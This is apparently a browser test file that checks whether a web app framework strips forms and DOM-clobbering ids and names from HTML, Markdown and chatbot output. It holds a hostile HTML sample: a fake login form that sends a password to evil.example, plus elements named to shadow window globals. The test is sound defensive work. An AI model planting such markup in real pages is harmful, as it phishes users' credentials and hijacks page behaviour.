"""Sanitized HTML in Chromium: no forms (phishing, navigating the app away) and no id / name that
clobbers the page's globals, in HTML, Markdown and Chatbot outputs (issue 9, item 8)."""

from __future__ import annotations

from playwright.sync_api import Page, expect

import reactive as rx
from tests.browser.conftest import Serve, open_app

HOSTILE = (
    '<p>before</p><form action="https://evil.example/steal" id="loginForm">'
    '<input name="password" type="password"><button formaction="https://evil.example/x">'
    "Log in</button></form>"
    '<img id="reactive" name="location" src="data:,"><a id="getElementById" href="#">a</a>'
)


def hostile_app() -> rx.App:
    app = rx.App(title="hostile")

    @app.fn(
        inputs=[],
        outputs=[rx.HTML(elem_id="html"), rx.Markdown(elem_id="md"), rx.Chatbot(elem_id="chat")],
        trigger=rx.Button("Show", elem_id="show"),
    )
    def show() -> tuple[str, str, list[dict[str, str]]]:
        return HOSTILE, "*md* " + HOSTILE, [{"role": "assistant", "content": HOSTILE}]

    return app


def test_forms_and_clobbering_names_do_not_survive_in_any_rich_output(
    page: Page, serve: Serve
) -> None:
    open_app(page, serve(hostile_app()))
    page.locator("#show button").click()
    for output in ("#html", "#md", "#chat"):
        expect(page.locator(output)).to_contain_text("before")
        assert page.locator(f"{output} form").count() == 0
        assert page.locator(f"{output} [formaction]").count() == 0
        assert page.locator(f"{output} [action]").count() == 0
        img = page.locator(f"{output} img").first
        assert (img.get_attribute("id") or "").startswith("user-content-")
    # Named elements no longer shadow the page's globals.
    assert page.evaluate("typeof window.reactive") == "undefined"
    assert page.evaluate("typeof window.loginForm") == "undefined"
    assert page.evaluate("typeof document.getElementById") == "function"
    assert page.evaluate("window.location.href").startswith("http://127.0.0.1")
